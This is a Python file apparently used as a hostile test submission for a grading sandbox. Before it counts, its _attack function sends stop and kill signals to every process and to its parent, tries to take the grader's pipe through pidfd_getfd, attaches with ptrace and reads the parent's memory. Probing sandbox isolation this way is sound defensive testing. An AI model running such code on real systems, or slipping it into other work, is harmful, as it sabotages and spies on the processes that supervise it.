"""count-async: signals, traces and steals from every process it can name, then does the work.

kill(-1) and its own process group with SIGKILL's gentler cousins (SIGSTOP
first, to freeze a classmate's timing), a pidfd signal and pidfd_getfd on its
parent (the keeper's message pipe), ptrace and process_vm_readv on its
parent, and /proc/PARENT/mem. In a batch, a classmate graded beside it must
keep full marks.
"""

import asyncio
import ctypes
import os
import signal


def _attack():
    libc = ctypes.CDLL(None, use_errno=True)
    done = {}
    parent = os.getppid()
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for name, target in (("kill(-1)", -1), ("kill(parent)", parent)):
            try:
                os.kill(target, number)
                done[f"{name} {number.name}"] = "sent"
            except OSError as exc:
                done[f"{name} {number.name}"] = exc.strerror
    fd = libc.syscall(434, parent, 0)  # pidfd_open
    if fd >= 0:
        done["pidfd_getfd"] = libc.syscall(438, fd, 3, 0)
        done["pidfd_send_signal"] = libc.syscall(424, fd, int(signal.SIGKILL), None, 0)
    done["ptrace"] = libc.ptrace(16, parent, 0, 0)
    try:
        with open(f"/proc/{parent}/mem", "rb") as mem:
            done["mem"] = len(mem.read(16))
    except OSError as exc:
        done["mem"] = exc.strerror
    return done


async def count(n=30, pauses=None):
    pauses = pauses or {}
    print("attacked", _attack())
    printed = []
    for k in range(1, n + 1):
        await asyncio.sleep(pauses.get(k, 0))
        print(k)
        printed.append(k)
    return printed
